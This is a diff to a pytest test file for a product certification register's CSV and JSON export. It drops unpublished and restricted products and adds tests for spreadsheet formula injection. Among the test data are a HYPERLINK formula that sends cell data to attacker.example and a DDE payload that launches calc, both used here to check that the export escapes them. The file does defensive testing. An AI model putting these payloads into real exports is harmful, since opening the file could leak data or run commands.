@@ -24,10 +24,12 @@ def csv_rows(response):
 
 
 def expected_vietnamese_rows():
-    """What the register holds, read row by row through the models (not through the export's code)."""
+    """What the register holds for published products, read row by row through the models (not the export's code)."""
     rows = []
     for certification in Certification.objects.order_by("decision__issued_on", "decision__number", "pk"):
         product = certification.product
+        if not product.live:
+            continue
         producer = product.get_parent().specific
         decision = certification.decision
         rows.append(
@@ -47,7 +49,7 @@ def expected_vietnamese_rows():
                 "status": str(certification.status),
                 "revoked_on": certification.revoked_on.isoformat() if certification.revoked_on else "",
                 "revocation_reason": certification.revocation_reason,
-                "product_url": HOST + product.url if product.live else "",
+                "product_url": HOST + product.url,
             }
         )
     return rows
@@ -60,13 +62,13 @@ def by_product(rows):
 # CSV ---------------------------------------------------------------------------
 
 
-def test_csv_lists_every_certificate_exactly_as_the_register_holds_it(client, register):
+def test_csv_lists_every_public_certificate_exactly_as_the_register_holds_it(client, register):
     response = client.get(CSV_URL)
 
     assert response.status_code == 200
     assert response["Content-Type"] == "text/csv; charset=utf-8"
     rows = csv_rows(response)
-    assert len(rows) == Certification.objects.count() == 7
+    assert len(rows) == Certification.objects.filter(product__live=True).count() == 6
     assert rows == expected_vietnamese_rows()
 
 
@@ -80,7 +82,6 @@ def test_csv_says_each_certificates_status_today(client, register):
         ("Lạp xưởng", "2024-03-01"): "revoked",
         ("Rượu đế Gò Đen", "2021-05-10"): "expired",
         ("Rượu đế Gò Đen", "2024-06-01"): "valid",
-        ("Miến dong", "2025-02-01"): "valid",
     }
     revoked = rows[("Lạp xưởng", "2024-03-01")]
     assert (revoked["revoked_on"], revoked["revocation_reason"]) == ("2025-03-01", "Không đánh giá lại đúng hạn")
@@ -117,11 +118,99 @@ def test_csv_downloads_as_a_dated_file_and_may_be_cached_for_five_minutes(client
     assert response["Content-Language"] == "en"
 
 
-def test_unpublished_products_certificate_is_listed_without_a_link(client, register):
-    rows = by_product(csv_rows(client.get(CSV_URL)))
+def certification_ids(client, url):
+    response = client.get(url)
+    assert response.status_code == 200
+    if url.startswith(JSON_URL):
+        document = json.loads(response.content)
+        assert document["count"] == len(document["certifications"])
+        return {row["certification_id"] for row in document["certifications"]}
+    return {int(row["certification_id"]) for row in csv_rows(response)}
 
-    assert rows[("Miến dong", "2025-02-01")]["product_url"] == ""
-    assert rows[("Lồng đèn mây tre", "2025-01-15")]["product_url"] == HOST + register.products.lantern.url
+
+REGISTER_URLS = [CSV_URL, CSV_URL + "?language=en", JSON_URL, JSON_URL + "?language=en"]
+
+
+@pytest.mark.parametrize("url", REGISTER_URLS)
+def test_an_unpublished_products_certificates_are_left_out_until_it_is_published(client, english_lantern, url):
+    draft = Certification.objects.get(product__title="Miến dong")
+    lantern = Certification.objects.get(product__title="Lồng đèn mây tre")
+
+    assert draft.pk not in certification_ids(client, url)
+    assert lantern.pk in certification_ids(client, url)
+
+    draft.product.specific.save_revision().publish()
+    assert draft.pk in certification_ids(client, url)
+
+
+@pytest.mark.parametrize("url", REGISTER_URLS)
+def test_a_draft_product_an_import_created_is_not_in_the_register(client, register, url):
+    draft = factories.ProductPageFactory(parent=register.producers.go_den, title="Rượu chanh", live=False)
+
+    assert draft.certifications.exists()
+    assert draft.certifications.get().pk not in certification_ids(client, url)
+    assert "Rượu chanh" not in client.get(url).content.decode("utf-8-sig")
+
+
+@pytest.mark.parametrize("url", REGISTER_URLS)
+def test_a_product_under_a_view_restriction_is_not_in_the_register(client, english_lantern, url):
+    from wagtail.models import PageViewRestriction
+
+    lantern = Certification.objects.get(product__title="Lồng đèn mây tre")
+    PageViewRestriction.objects.create(
+        page=lantern.product, restriction_type=PageViewRestriction.PASSWORD, password="secret"
+    )
+
+    assert lantern.pk not in certification_ids(client, url)
+
+
+# Spreadsheet formulas ----------------------------------------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("http://attacker.example/?d="&A1,"Xem")',
+    "+1+2",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "  =1+1",
+    "\u00a0=1+1",
+    "\uff1d1+1",
+    "\uff0b1",
+    "\uff20SUM(A1)",
+]
+
+
+@pytest.mark.parametrize("language", ["vi", "en"])
+def test_csv_cells_a_spreadsheet_would_read_as_formulas_are_written_as_text(
+    client, frozen_today, producer_index, language
+):
+    producer = factories.ProducerPageFactory(parent=producer_index, title="@cmd|' /C calc'!A0")
+    products = {
+        title: factories.ProductPageFactory(parent=producer, title=title, certification__decision__issuer=title)
+        for title in FORMULAS
+    }
+
+    rows = {row["certification_id"]: row for row in csv_rows(client.get(f"{CSV_URL}?language={language}"))}
+
+    for title, product in products.items():
+        row = rows[str(product.certifications.get().pk)]
+        # Readable: the value itself, behind the apostrophe that makes a spreadsheet show it as text.
+        assert row["product"] == "'" + title
+        assert row["issuing_body"] == "'" + title
+        assert row["producer"] == "'@cmd|' /C calc'!A0"
+    # Ordinary values and numbers are untouched.
+    assert {row["stars"] for row in rows.values()} == {"4"}
+    assert all(row["decision_date"][0].isdigit() for row in rows.values())
+
+
+def test_json_keeps_the_values_as_they_are(client, frozen_today, producer_index):
+    producer = factories.ProducerPageFactory(parent=producer_index, title="=1+1")
+    factories.ProductPageFactory(parent=producer, title="@SUM(A1)")
+
+    row = json.loads(client.get(JSON_URL).content)["certifications"][0]
+
+    assert (row["product"], row["producer"]) == ("@SUM(A1)", "=1+1")
 
 
 # Languages ---------------------------------------------------------------------
@@ -140,7 +229,7 @@ def test_english_register_uses_english_names_and_pages_where_translated(client, 
     tea = rows[("Chè shan tuyết", "2022-10-01")]
     assert (tea["producer"], tea["province"], tea["status"]) == ("Hộ kinh doanh Đèo Thị Sớp", "Lai Châu", "expiring")
     assert tea["product_url"].startswith(HOST + "/vi/")
-    assert len(rows) == 7
+    assert len(rows) == 6
 
 
 def test_vietnamese_is_the_default_language_even_with_an_english_translation(client, english_lantern):
@@ -187,7 +276,7 @@ def test_json_holds_the_same_rows_with_typed_values_and_iso_dates(client, regist
     assert response["Content-Type"] == "application/json; charset=utf-8"
     assert "max-age=300" in response["Cache-Control"]
     document = json.loads(response.content)
-    assert document["count"] == 7
+    assert document["count"] == 6
     assert document["license"]["name"] == "CC BY 4.0"
     assert datetime.datetime.fromisoformat(document["generated_at"]).tzinfo is not None
     as_text = [
